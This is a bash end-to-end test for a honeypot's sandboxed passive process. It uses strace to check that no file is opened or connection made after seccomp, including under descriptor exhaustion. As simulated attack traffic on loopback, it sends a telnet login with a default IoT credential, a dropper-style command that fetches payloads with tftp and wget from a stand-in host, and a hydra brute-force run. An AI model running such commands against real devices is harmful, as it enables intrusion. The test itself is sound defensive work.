#!/bin/bash
# The passive process opens no file and connects nowhere, also when descriptors run out.
#   tests/e2e/passive_strace.sh
# strace follows kansoku from its start; what the passive process does after the sandbox closed
# behind it (its seccomp call) is judged.  Exit status 0: it held, 1: it did not, 77: no strace.
. "$(dirname "$0")/lib.sh"
for program in strace curl telnet hydra prlimit setpriv; do
	command -v $program >/dev/null || skip "$program is missing"
done
loopback_config <<-EOT
	passive:
	  workers: 1
	  services: {telnet: {ports: [$TELNET_PORT]}, http: {ports: [$HTTP_PORT]}}
	  limits: {source_rate: 0, source_sessions: 0}
EOT
TRACE=$WORK/trace
mkdir "$TRACE"
chmod 777 "$TRACE"
ulimit -n 300 || fail "the limit of descriptors cannot be lowered"
ulimit -Hn 300
strace -f -ff -qq -o "$TRACE/pid" "$KANSOKU" run --config "$CONFIG" --only passive,journal,control >>"$LOG" 2>&1 &
KANSOKU_PID=$!
for _ in $(seq 300); do
	[ -e "$STATE/run/ready" ] && break
	sleep 0.1
done
[ -e "$STATE/run/ready" ] || fail "kansoku was not ready within 30 s"
kansoku=$(pgrep -P $KANSOKU_PID -f 'run --config' | head -1)
passive=$(pgrep -P "${kansoku:-$KANSOKU_PID}" -f 'process passive$' | head -1)
trap 'kill -TERM "$kansoku" 2>/dev/null; cleanup' EXIT # strace itself waits for it, whatever it is told
[ -n "$passive" ] && [ -s "$TRACE/pid.$passive" ] || fail "no trace of the passive process"

# Ordinary work: a login with commands that write and fetch, a page, guesses.
{ sleep 0.5; printf 'root\r\n'; sleep 0.5; printf 'xc3511\r\n'; sleep 0.5
  printf 'cd /tmp; echo -ne "\\x7f\\x45" > x; cat x; tftp -g -r y 192.0.2.1; wget http://192.0.2.1/z; exit\r\n'
  sleep 1; } | timeout 10 telnet $HOST $TELNET_PORT >/dev/null 2>&1
curl -s -o /dev/null -F "file=@$CONFIG" "http://$HOST:$HTTP_PORT/upgrade"
curl -s -o /dev/null "http://$HOST:$HTTP_PORT/"
timeout 30 hydra -q -I -t 4 -l root -p wrong $HOST -s $TELNET_PORT telnet >/dev/null 2>&1

# More peers than it has descriptors: each is taken or hung up on, none waits for ever.
crowd() { # HOW MANY
	local held=() fd
	for _ in $(seq "$1"); do
		exec {fd}<>/dev/tcp/$HOST/$TELNET_PORT && held+=($fd)
	done 2>/dev/null
	sleep 3
	taken=$(ls "/proc/$passive/fd" | wc -l)
	[ "${#held[@]}" = "$1" ] || fail "only ${#held[@]} of $1 connects came through"
	waiting=$(ss -Htln "sport = :$TELNET_PORT" | awk '{print $2}' | sort -n | tail -1)
	[ "$waiting" = 0 ] || fail "$waiting of $1 peers were neither taken nor hung up on"
	for fd in "${held[@]}"; do exec {fd}>&-; done
	sleep 1
}
# Only its own user may lower the limit of a process without the capability for it.
files_of_passive() { # SOFT LIMIT
	local uid=$(awk '/^Uid:/{print $2}' "/proc/$passive/status")
	setpriv --reuid="$uid" --regid="$uid" --clear-groups prlimit --pid "$passive" --nofile="$1":300 ||
		fail "the limit of the passive process cannot be set"
}
crowd 250 # beyond its own limit
most=$taken
files_of_passive 40
crowd 100 # the system gives it none
files_of_passive 300
curl -s -m 10 -o /dev/null "http://$HOST:$HTTP_PORT/" || fail "the decoy did not answer after the flood"
kill -TERM "${kansoku:-$KANSOKU_PID}"
wait $KANSOKU_PID
KANSOKU_PID=

# After the seccomp filter is loaded.
sed '1,/^seccomp(SECCOMP_SET_MODE_FILTER\|^prctl(PR_SET_SECCOMP/d' "$TRACE/pid.$passive" >"$WORK/inside"
[ -s "$WORK/inside" ] || fail "the passive process never closed its sandbox"
grep -q '^accept4(' "$WORK/inside" || fail "the trace shows no accept4, so it shows nothing"
bad=$(grep -E '^(open|openat|openat2|creat|connect|socket|bind|execve|fork|vfork|clone3?|ptrace|unlink|rename|mkdir)\(' \
	"$WORK/inside" | grep -v 'CLONE_THREAD' | sort | uniq -c | head)
[ -z "$bad" ] || fail "the passive process did after its sandbox: $bad"
spun=$(grep -c '^accept4(.*EMFILE' "$WORK/inside")
[ "$spun" -gt 0 ] || fail "descriptors never ran out, so nothing was shown"
[ "$spun" -lt 2000 ] || fail "it asked $spun times for a descriptor that it could not have"
echo "passive_strace: $(grep -c . "$WORK/inside") calls, no file opened, no connection made ($most descriptors at most, then none: $spun EMFILE)"
